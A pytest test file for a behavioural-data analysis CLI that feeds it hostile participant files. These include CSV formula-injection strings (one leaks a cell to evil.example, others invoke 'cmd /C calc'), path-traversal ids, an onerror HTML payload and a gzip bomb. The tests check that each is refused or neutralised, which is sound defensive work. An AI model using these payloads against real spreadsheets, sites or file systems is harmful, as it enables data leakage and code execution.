"""``appeal analyze ratings`` and ``appeal analyze psychometric`` read data files as hostile input
(issue 47, part 4): files from online participants may carry any participant id, any cell text
and any bytes. A participant id that would lead a figure's path out of ``--out`` is refused (and
nothing is written outside), formula-like cells are neutralised in every CSV written, and each
malformed file — binary, NUL bytes, not UTF-8, empty, ragged, huge, a folder or a pipe that the
glob matched — is one line naming the file, never a traceback."""

from __future__ import annotations

import csv
import gzip
import os
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from appeal.cells import formula_like
from appeal.errors import AppealInputError
from appeal_cli import main
from cli_errors import one_line_error
from test_psychometric_study import TASK, write_analysis, write_session
from test_stats_cli import _write_study

EVIL = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0"]


def _files(root: Path) -> list[Path]:
    return sorted(root.rglob("*_beh.tsv"))


def _rewrite(path: Path, **columns) -> None:
    """Replace cells of a session file: ``column=value`` (every row) or ``column={old: new}``."""
    table = pd.read_csv(path, sep="\t", dtype=str, keep_default_na=False)
    for col, value in columns.items():
        table[col] = table[col].replace(value) if isinstance(value, dict) else value
    table.to_csv(path, sep="\t", index=False)


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _written_cells(out: Path) -> list[str]:
    """Every cell (and header) of every CSV under ``out``; none may be formula-like."""
    cells = []
    for f in sorted(out.rglob("*.csv")):
        with open(f, newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    return cells


@pytest.fixture()
def sentinel(tmp_path) -> Path:
    """A folder beside the study that no run may write into (``../`` in a participant id aims here)."""
    folder = tmp_path / "escaped"
    folder.mkdir()
    (folder / "keep.txt").write_text("untouched")
    return folder


# --------------------------------------------------------------------------- psychometric
@pytest.fixture()
def psy_study(tmp_path) -> tuple[Path, Path]:
    """Two participants, two expressions (40 constant-stimuli trials each): the study file and its data."""
    study = tmp_path / "study"
    for i in (1, 2):
        write_session(study / "data", f"0{i}", {"happiness": 0.3, "anger": 0.6}, n_trials=40, seed=i)
    return write_analysis(study), study / "data"


@pytest.mark.parametrize("sid", ["x/../../../escaped/pwned", "sub-../../escaped/pwned", "../escaped", "sub-01\x1b[2J",
                                 "01 02", "=HYPERLINK(\"x\")", ""])
def test_a_participant_id_that_is_not_a_label_is_refused_before_any_output(psy_study, sentinel, tmp_path, capsys,
                                                                           sid):
    cfg, data = psy_study
    bad = _files(data)[1]
    _rewrite(bad, participant_id=sid)
    out = tmp_path / "out"
    line = one_line_error(capsys, ["analyze", "psychometric", str(cfg), "--out", str(out)],
                          bad.name, "row 1: column 'participant_id':")
    assert ("an empty cell" in line) if sid == "" else ("expected letters and digits only (a BIDS label)" in line)
    assert "\x1b" not in line
    assert not out.exists() and _tree(sentinel) == {"keep.txt": b"untouched"}
    assert not list(tmp_path.rglob("*pwned*")) and not list(tmp_path.rglob("*_psychometric.png"))


def test_a_figure_path_is_checked_where_it_is_written(psy_study, sentinel, tmp_path):
    """Trials handed to the workflow without :func:`read_trials`: the figure's path is still required
    to stay inside the output folder."""
    from analysis.psychometric import PsychometricAnalysis, analyze_psychometric_study
    from analysis.psychometric.study import read_trials
    from appeal.studyfile import load_study_file

    cfg = load_study_file(psy_study[0], PsychometricAnalysis)
    trials = read_trials(cfg)
    # out/figures/sub-x/../../../../escaped/pwned_psychometric is tmp_path/escaped/pwned_psychometric
    trials["participant_id"] = trials["participant_id"].replace({"sub-02": "x/../../../../escaped/pwned"})
    out = tmp_path / "study" / "out"
    out.mkdir()
    with pytest.raises(AppealInputError, match="outside the output folder") as exc:
        analyze_psychometric_study(cfg, out, trials)
    assert len(exc.value.lines) == 1
    assert _tree(sentinel) == {"keep.txt": b"untouched"} and not list(tmp_path.rglob("*pwned*"))


CONTROL = "ang\x1b[2Jer\r\n=1+1\tx"


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # the figures draw the control characters
@pytest.mark.parametrize("levels", [(EVIL[0], EVIL[1]), (EVIL[2], CONTROL)])
def test_formula_cells_are_neutralised_in_the_psychometric_tables(psy_study, tmp_path, levels):
    cfg, data = psy_study
    for f in _files(data):
        _rewrite(f, emotion={"happiness": levels[0], "anger": levels[1]})
    out = tmp_path / "out"
    assert main(["analyze", "psychometric", str(cfg), "--out", str(out)]) == 0
    cells = _written_cells(out)
    assert not [c for c in cells if formula_like(c)]
    shown = {("'" + v if formula_like(v) else v) for v in levels}
    assert shown <= set(cells)  # kept, as text; a line break or escape inside a cell stays inside it
    fits = pd.read_csv(out / "fits.csv", keep_default_na=False)
    assert len(fits) == 4 and set(fits["emotion"]) == shown and set(fits["participant_id"]) == {"sub-01", "sub-02"}
    assert {p.name for p in (out / "figures").iterdir()} >= {"sub-01_psychometric.png", "sub-02_psychometric.png"}


# --------------------------------------------------------------------------- ratings
@pytest.fixture()
def ratings_study(tmp_path) -> tuple[Path, Path]:
    study, _ = _write_study(tmp_path / "study", n_subjects=4)
    return study, tmp_path / "study" / "data"


def test_a_scale_column_that_names_a_path_is_refused(ratings_study, sentinel, tmp_path, capsys):
    """Scales found in the data (``response_*``) name output folders: ``response_../../x`` is refused."""
    study, data = ratings_study
    f = _files(data)[0]
    table = pd.read_csv(f, sep="\t", dtype=str, keep_default_na=False)
    table["response_../../../escaped/pwned"] = "3"
    table.to_csv(f, sep="\t", index=False)
    out = tmp_path / "out"
    one_line_error(capsys, ["analyze", "ratings", str(study), "--out", str(out)],
                   "scales: column 'response_../../../escaped/pwned': expected response_<name> with a name of letters")
    assert _tree(sentinel) == {"keep.txt": b"untouched"} and not list(tmp_path.rglob("*pwned*"))


def test_a_scale_named_as_a_path_in_the_study_file_stays_inside(ratings_study, sentinel, tmp_path, capsys):
    study, data = ratings_study
    for f in _files(data):
        table = pd.read_csv(f, sep="\t", dtype=str, keep_default_na=False)
        table.rename(columns={"response_appeal": "../escaped/pwned"}).to_csv(f, sep="\t", index=False)
    study.write_text(study.read_text() + "scales: [../escaped/pwned]\n")
    out = tmp_path / "out"  # out/../escaped/pwned is the sentinel folder
    one_line_error(capsys, ["analyze", "ratings", str(study), "--out", str(out)], "scales: ../escaped/pwned",
                   "outside the output folder")
    assert _tree(sentinel) == {"keep.txt": b"untouched"} and not list(tmp_path.rglob("*pwned*"))


def test_formula_cells_are_neutralised_in_the_rating_tables(ratings_study, tmp_path):
    study, data = ratings_study
    for f in _files(data):
        _rewrite(f, shape={"s0": EVIL[0], "s1": EVIL[2]}, material={"m0": EVIL[3]})
    out = tmp_path / "out"
    assert main(["analyze", "ratings", str(study), "--out", str(out)]) == 0
    cells = _written_cells(out)
    assert not [c for c in cells if formula_like(c)]
    assert any(c.startswith("'" + EVIL[0]) for c in cells)  # the post-hoc tables name the level, as text


MARKUP = "<img src=x onerror=alert(1)>"
MATH = "$\\frac{$"


@pytest.mark.parametrize("command", ["ratings", "psychometric"])
def test_markup_and_math_in_levels_are_shown_as_text(request, tmp_path, command):
    """A level holding HTML reaches the report page escaped (it must not run in the lab's browser), and
    one holding matplotlib math (``$\\frac{$`` stopped a figure with a ValueError) is drawn as text."""
    study, data = request.getfixturevalue(f"{'ratings' if command == 'ratings' else 'psy'}_study")
    edit = {"shape": {"s0": MARKUP, "s1": MATH}} if command == "ratings" else {"emotion": {"happiness": MARKUP,
                                                                                            "anger": MATH}}
    for f in _files(data):
        _rewrite(f, **edit)
    out = tmp_path / "out"
    assert main(["analyze", command, str(study), "--out", str(out)]) == 0
    pages = [p.read_text(encoding="utf-8") for p in out.rglob("*.html")]
    assert pages and not any("<img src=x" in page for page in pages)
    assert any("&lt;img src=x onerror=alert(1)&gt;" in page for page in pages)
    assert len(list(out.rglob("*.png"))) >= 2


# --------------------------------------------------------------------------- malformed files
def _bad_file(path: Path, kind: str) -> str:
    """Make ``path`` malformed as ``kind``; return what its one-line error says."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "binary":
        path.write_bytes(np.random.default_rng(0).bytes(4096) + b"\x00")
        return ": a NUL byte (a binary file, or text in UTF-16?)"
    if kind == "nul":
        path.write_bytes(b"participant_id\ttrial\n01\t1\x002\n")
        return ":2: a NUL byte"
    if kind == "utf16":
        path.write_text("participant_id\ttrial\n01\t1\n", encoding="utf-16")
        return ":1: a NUL byte (a binary file, or text in UTF-16?)"
    if kind == "latin1":
        path.write_bytes("participant_id\tshape\n01\tr\xe9aliste\n".encode("latin-1"))
        return ":2: not UTF-8 (byte 0xe9)"
    if kind == "empty":
        path.write_bytes(b"")
        return "the file is empty"
    if kind == "blank":
        path.write_bytes(b"\n\n  \n")
        return "the file is empty"
    if kind == "ragged":
        path.write_text("participant_id\ttrial\n01\t1\t9\t9\n01\t2\n")
        return "line 2: expected at most 2 fields (the header's), found 4"
    if kind == "ragged-later":
        path.write_text("participant_id\ttrial\n01\t1\n01\t2\t3\n")
        return "cannot read table (Error tokenizing data. C error: Expected 2 fields in line 3, saw 3)"
    if kind == "unclosed-quote":
        path.write_text('participant_id\ttrial\n"01\t1\n')
        return "cannot read table ("
    if kind == "folder":
        path.mkdir()
        return "expected a data file, got a folder"
    if kind == "fifo":
        os.mkfifo(path)
        return "expected a data file, got a pipe (FIFO)"
    if kind == "dangling-link":
        path.symlink_to(path.parent / "nowhere.tsv")
        return "file not found"
    if kind == "huge":
        path.write_text("participant_id\ttrial\n" + "01\t1\n" * 40_000)  # 240 kB, over the test's cap of 64 kB
        return "the table is larger than 65536 bytes"
    raise ValueError(kind)


MALFORMED = ["binary", "nul", "utf16", "latin1", "empty", "blank", "ragged", "ragged-later", "unclosed-quote", "folder",
             "fifo", "dangling-link", "huge"]


@pytest.fixture()
def small_cap(monkeypatch):
    """A 64 kB table cap, so that "huge" costs no memory here (the real cap is 256 MB)."""
    import analysis.stats.design as design

    monkeypatch.setattr(design, "MAX_TABLE_BYTES", 2 ** 16)


@pytest.mark.parametrize("kind", MALFORMED)
def test_a_malformed_psychometric_file_is_one_line(psy_study, tmp_path, capsys, small_cap, kind):
    cfg, data = psy_study
    bad = data / "sub-09" / "ses-1" / "beh" / f"sub-09_ses-1_task-{TASK}_beh.tsv"
    needle = _bad_file(bad, kind)
    out = tmp_path / "out"
    one_line_error(capsys, ["analyze", "psychometric", str(cfg), "--out", str(out)], str(bad), needle)
    assert not out.exists()


@pytest.mark.parametrize("kind", MALFORMED)
def test_a_malformed_rating_file_is_one_line(ratings_study, tmp_path, capsys, small_cap, kind):
    study, data = ratings_study
    bad = data / "sub-09" / "ses-1" / "beh" / "sub-09_ses-1_task-t_beh.tsv"
    needle = _bad_file(bad, kind)
    one_line_error(capsys, ["analyze", "ratings", str(study), "--out", str(tmp_path / "out")], str(bad), needle)


def test_a_compressed_table_is_capped_once_decompressed(tmp_path, capsys, small_cap):
    """A small ``.gz`` that inflates past the cap (a zip bomb) is refused while it is read."""
    bomb = tmp_path / "ratings.tsv.gz"
    bomb.write_bytes(gzip.compress(b"id\tshape\tappeal\n" + b"1\ta\t3\n" * 100_000))
    assert bomb.stat().st_size < 2 ** 16
    one_line_error(capsys, ["analyze", "anova", str(bomb), "--dv", "appeal", "--subject", "id", "--within", "shape"],
                   str(bomb), "the table is larger than 65536 bytes once decompressed")
    broken = tmp_path / "broken.csv.gz"
    broken.write_bytes(b"\x1f\x8b\x08\x00garbage")
    one_line_error(capsys, ["analyze", "anova", str(broken), "--dv", "appeal", "--subject", "id", "--within", "shape"],
                   str(broken), "cannot read the file")


def test_a_header_only_file_and_short_rows_read_without_a_traceback(ratings_study, tmp_path, capsys):
    """A session that stopped before its first trial (header only) adds no rows; a short row's
    missing cells are empty (the design checks then name them)."""
    from analysis.stats.design import read_ratings

    study, data = ratings_study
    first = _files(data)[0]
    header = first.read_text().splitlines()[0]
    (data / "sub-09" / "ses-1" / "beh").mkdir(parents=True)
    (data / "sub-09" / "ses-1" / "beh" / "sub-09_ses-1_task-t_beh.tsv").write_text(header + "\n")
    n = sum(len(pd.read_csv(f, sep="\t")) for f in _files(data))
    assert len(read_ratings(str(data / "sub-*" / "ses-*" / "beh" / "*_beh.tsv"))) == n
    short = first.read_text().splitlines()
    short[3] = "\t".join(short[3].split("\t")[:4])
    first.write_text("\n".join(short) + "\n")
    code = main(["analyze", "ratings", str(study), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code in (0, 2) and "Traceback" not in err and "internal error" not in err, err
